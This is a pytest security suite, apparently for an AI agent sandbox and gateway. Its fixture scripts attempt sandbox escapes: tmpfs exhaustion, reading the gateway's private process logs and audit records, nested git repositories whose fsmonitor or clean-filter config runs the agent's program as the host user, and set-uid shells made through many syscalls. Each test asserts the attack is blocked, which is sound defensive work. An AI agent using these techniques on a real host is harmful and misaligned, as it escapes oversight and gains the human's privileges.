def test_tmpfs_bombs_hit_enospc(lab: Lab) -> None:
    """A recipe writes 3 x 300 MiB into /tmp and into /dev/shm (dd from /dev/zero). Must hold:
    each stops with ENOSPC well before 900 MiB (the shipped policy: 256 MiB per tmpfs)."""
    lab.put(".attack/tmpfs.sh", TMPFS)
    lab.makefile({"tmpfs": ["@/bin/bash .attack/tmpfs.sh"]})
    out = lab.make("tmpfs", timeout_ms=90_000)
    shown = text_of(out)
    assert "tmpfs-ran" in shown, shown
    wrote = {d: int(n) for d, n in re.findall(r"WROTE (\S+) (\d+)", shown)}
    assert set(wrote) == {"/tmp", "/dev/shm"}, shown
    assert wrote["/tmp"] > 0 and "No space left on device" in shown, f"/tmp: {shown}"
    too_much = {d: n // MiB for d, n in wrote.items() if n >= 512 * MiB}
    assert not too_much, f"MiB written into a private tmpfs: {too_much}"


# --- 11. private directories made after a long-lived sandbox started -------------------------------------

TALK = """
import time
print(TOKEN, flush=True)
time.sleep(60)
"""

PEEK = """
import os
print("peek-ran", flush=True)
for top in TOPS:
    for dirpath, dirnames, filenames in os.walk(top):
        print("LIST", dirpath, sorted(dirnames), sorted(filenames))
        for name in filenames:
            try:
                with open(os.path.join(dirpath, name), errors="replace") as f:
                    print("READ", name, f.read()[-4000:])
            except OSError as e:
                print("refused", name, e.strerror)
    if not os.path.exists(top):
        print("absent", top)
"""


def test_a_session_cannot_see_records_made_after_it_started(lab: Lab) -> None:
    """The agent starts a session, then a durable process. Only then does the gateway make the
    process's private state (its folder, record and log, holding what the process printed:
    every principal's processes keep their records there) and write audit records. From the
    session, a recipe lists and reads the state and audit directories by absolute path.

    Must hold: the session sees nothing of them: not the process's id, not its log's token,
    not an audit record. (The shipped policy has one principal: this is its own processes'
    state, which holds every principal's records.)"""
    token = f"AGW-PROCESS-LOG-{secrets.token_hex(8)}"
    talk = lab.script("talk.py", TALK, TOKEN=token)
    peek = lab.script("peek.py", PEEK, TOPS=[str(lab.state_dir), str(lab.audit_dir)])
    lab.makefile({"talk": [f"@{talk}"], "peek": [f"@{peek}"]})
    session = lab.session("start")  # the state directory may exist already; the process's records do not
    assert session["status"] == "ok", session

    started = lab.process("start", command="make talk")
    assert started["status"] == "ok", started
    pid = started["process"]["id"]
    deadline = time.monotonic() + 15
    while token not in lab.process("output", process_id=pid).get("output", "") and time.monotonic() < deadline:
        time.sleep(0.1)
    assert token in lab.process("output", process_id=pid)["output"]
    records = [json.loads(line) for f in lab.audit_dir.glob("audit-*") for line in f.read_text().splitlines() if line]
    audit_ids = {r["call_id"] for r in records if r.get("call_id")} | {r["hash"] for r in records if r.get("hash")}

    out = lab.session("exec", session_id=session["session_id"], command="make peek", timeout_ms=30_000)
    shown = text_of(out)
    assert "peek-ran" in shown, out
    seen = [what for what, needle in (("the process log", token), ("the process id", pid)) if needle in shown]
    seen += [f"audit record {i}" for i in audit_ids if i in shown]
    assert not seen, f"the session saw the gateway's private records: {seen[:5]}"


# --- nested repositories (found by red-teaming the new sandbox) ---------------------------------

NESTED_ATTACKS = [
    # (name, the attacker's recipe in the workspace, how the repository is brought to the human)
    ("fsmonitor-then-gitlink", "fsmonitor", "git add sub && git commit -q -m sub"),
    ("fsmonitor-human-adds-it", "fsmonitor", None),  # no agent git at all: the human's add -A finds it
    ("filter-then-git-status", "filter", "git add sub && git commit -q -m sub"),
    ("moved-into-place", "moved", None),  # prepared elsewhere, renamed to sub/.git in one step
]


@pytest.mark.parametrize(("name", "kind", "register"), NESTED_ATTACKS, ids=[a[0] for a in NESTED_ATTACKS])
def test_nested_repositories_never_reach_the_humans_git(lab: Lab, name: str, kind: str, register: str | None) -> None:
    """The attacker's recipe makes a repository inside the workspace (`sub/.git`) whose own
    config runs its program (core.fsmonitor, or a clean filter its .gitattributes selects),
    then registers it in the human's repository (a git write) or leaves it for the human's
    `git add -A`. The human's git looks into a nested repository it finds, with the nested
    configuration: on the sandbox this replaced, and on its first rebuild, that ran the agent's
    program as the human (root). Must hold: neither a later git write through `run` nor the
    human's `git status`, `git add -A`, `git commit` on the host runs it, and the nested `.git`
    is quarantined (moved aside) and audited."""
    assert lab.host_git("add", "-A").returncode == 0
    assert lab.host_git("commit", "-q", "-m", "first").returncode == 0
    lab.hand_over()
    marker = lab.outside / "nested-marker"
    lab.put("tools/p.sh", f'#!/bin/sh\necho "$(id -u) $PWD $*" >> {marker}\ncat\n', 0o755)
    config = (
        f"[core]\\n\\tfsmonitor = {lab.ws}/tools/p.sh\\n"
        if kind in ("fsmonitor", "moved")
        else f'[filter \\"evil\\"]\\n\\tclean = {lab.ws}/tools/p.sh\\n\\tsmudge = {lab.ws}/tools/p.sh\\n'
    )
    build = "mkdir -p $(D) && cd $(D) && git init -q && echo x > f && git add f && git commit -q -m s"
    if kind == "moved":  # made in the private /tmp under another name, then renamed into place at once
        recipe = [
            f"@{build.replace('$(D)', '/tmp/prep')}",
            f"@printf '{config}' >> /tmp/prep/.git/config",
            "@cp -a /tmp/prep/.git .prep-git && mkdir -p sub && cp /tmp/prep/f sub/f",
            "@mv .prep-git sub/.git",
            "@echo nested-ready",
        ]
    else:
        recipe = [
            f"@{build.replace('$(D)', 'sub')} || true",
            f"@printf '{config}' >> sub/.git/config || true",
            "@printf '* filter=evil\\n' > sub/.gitattributes",
            "@echo changed >> sub/f",
            "@echo nested-ready",
        ]
    lab.makefile({"nested": recipe})
    out = lab.make("nested")
    assert "nested-ready" in text_of(out), out

    def quarantines() -> list[dict[str, Any]]:
        return [r for _, _, r, _ in records(lab.audit_dir) if r and r["event"] == "nested_repository_quarantined"]

    # the watcher acts on its own thread, and records a quarantine after the move: wait for both
    assert eventually(lambda: quarantines() and not os.path.lexists(lab.ws / "sub" / ".git"))
    if register:
        lab.run(register, env=AGENT_IDENTITY)
        lab.run("git status")
    lab.host_git("status")
    lab.host_git("add", "-A")
    lab.host_git("commit", "-q", "-m", "the human's next commit")
    lab.host_git("diff", "HEAD~1")
    assert not marker.exists(), f"the nested repository's program ran: {marker.read_text()}"
    assert not (lab.ws / "sub" / ".git").exists() or not (lab.ws / "sub" / ".git" / "config").exists()
    quarantined = quarantines()
    assert quarantined and quarantined[0]["data"]["path"].endswith("/.git"), quarantined


# --- set-id files ---------------------------------------------------------------------------------

SETID = """
import ctypes, errno, os, shutil, stat, subprocess, tarfile
print("setid-ran", flush=True)
libc = ctypes.CDLL(None, use_errno=True)
def call(name, fn):
    try:
        fn()
        print("DONE", name, flush=True)
    except OSError as e:
        print("REFUSED", name, errno.errorcode.get(e.errno, e.errno), flush=True)
def raw(nr, *args):
    if libc.syscall(nr, *args) != 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
shutil.copy("/bin/sh", "sh-copy")
call("control-chmod-755", lambda: os.chmod("sh-copy", 0o755))
subprocess.run(["chmod", "6755", "sh-copy"])
call("chmod", lambda: os.chmod("sh-copy", 0o6755))
call("chmod-g", lambda: os.chmod("sh-copy", 0o2755))
fd = os.open("sh-copy", os.O_RDONLY)
call("fchmod", lambda: os.fchmod(fd, 0o4755))
call("fchmodat2", lambda: raw(452, -100, b"sh-copy", 0o4755, 0))
call("open-creat", lambda: os.close(os.open("made-by-open", os.O_WRONLY | os.O_CREAT, 0o4755)))
call("open-tmpfile", lambda: os.close(os.open(".", os.O_WRONLY | os.O_TMPFILE, 0o4755)))
call("creat", lambda: raw(85, b"made-by-creat", 0o4755) if os.uname().machine == "x86_64" else None)
call("mknod", lambda: os.mknod("made-by-mknod", stat.S_IFREG | 0o4755))
call("mkdir", lambda: os.mkdir("made-by-mkdir", 0o2755))
call("openat2", lambda: raw(437, -100, b"made-by-openat2", ctypes.create_string_buffer(24), 24))
call("io_uring_setup", lambda: raw(425, 8, ctypes.create_string_buffer(120)))
info = tarfile.TarInfo("from-tar")
info.mode, info.size = 0o6755, 0
with tarfile.open("setid.tar", "w") as t:
    t.addfile(info)
subprocess.run(["tar", "-xpf", "setid.tar"])
subprocess.run(["install", "-m", "4755", "/bin/sh", "from-install"])
subprocess.run(["cp", "--preserve=mode", "/usr/bin/passwd", "from-cp"])
print("setid-done", flush=True)
"""


def test_set_id_files_never_reach_the_host(lab: Lab) -> None:
    """A recipe copies a shell into the workspace and makes it set-user-ID and set-group-ID every
    way it knows: chmod, fchmod, fchmodat2, the mode of open (O_CREAT, O_TMPFILE), creat, mknod
    and mkdir, openat2, io_uring, tar -p, install -m, cp --preserve of a set-id program. The
    workspace is the host's directory: before, `chmod 6755` left a set-id binary there that any
    local user could run as the sandbox's account. Must hold: no file in the workspace has a
    set-id bit on the host, every such call is refused, and a plain mode change still works."""
    setid = lab.script("setid.py", SETID)
    lab.makefile({"setid": [f"-@{setid}"]})
    out = lab.make("setid")
    shown = text_of(out)
    assert "setid-ran" in shown and "setid-done" in shown, shown
    assert "DONE control-chmod-755" in shown, shown
    for name in ("chmod", "chmod-g", "fchmod", "fchmodat2", "open-creat", "open-tmpfile", "mknod", "mkdir"):
        assert f"REFUSED {name} EPERM" in shown, (name, shown)
    assert "REFUSED openat2 ENOSYS" in shown and "REFUSED io_uring_setup ENOSYS" in shown, shown
    setid_files = []
    for dirpath, dirnames, filenames in os.walk(lab.ws):
        for name in dirnames + filenames:
            st = os.lstat(os.path.join(dirpath, name))
            if st.st_mode & (stat.S_ISUID | stat.S_ISGID):
                setid_files.append(f"{os.path.join(dirpath, name)} {stat.filemode(st.st_mode)}")
    assert not setid_files, f"set-id files the sandbox made, on the host: {setid_files}\n{shown}"
